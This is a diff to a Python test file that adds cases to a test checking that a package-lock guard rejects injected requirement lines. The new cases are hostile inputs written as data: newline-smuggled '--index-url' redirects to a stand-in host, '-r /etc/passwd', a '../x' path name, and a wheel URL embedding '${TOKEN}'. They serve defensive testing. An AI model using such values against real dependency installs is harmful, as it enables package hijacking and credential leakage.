@@ -78,7 +78,15 @@ def test_versions_are_spelt_as_pip_compares_them() -> None:
     "guard",
     [
         Guard(packages={"triton": "3.5; x"}),
+        Guard(packages={"triton": "3.5\n"}),
+        Guard(packages={"triton\n--index-url https://index.example": "3.5"}),
+        Guard(packages={"triton\n": "3.5"}),
+        Guard(packages={"../x": "3.5"}),
         Guard(constraints=("numpy<2\n--index-url https://index.example",)),
+        Guard(constraints=("--index-url https://index.example",)),
+        Guard(constraints=("-r /etc/passwd",)),
+        Guard(constraints=("numpy @ https://index.example/${TOKEN}/n.whl",)),
+        Guard(constraints=("",)),
     ],
 )
 def test_a_lock_cannot_add_lines(guard: Guard) -> None:
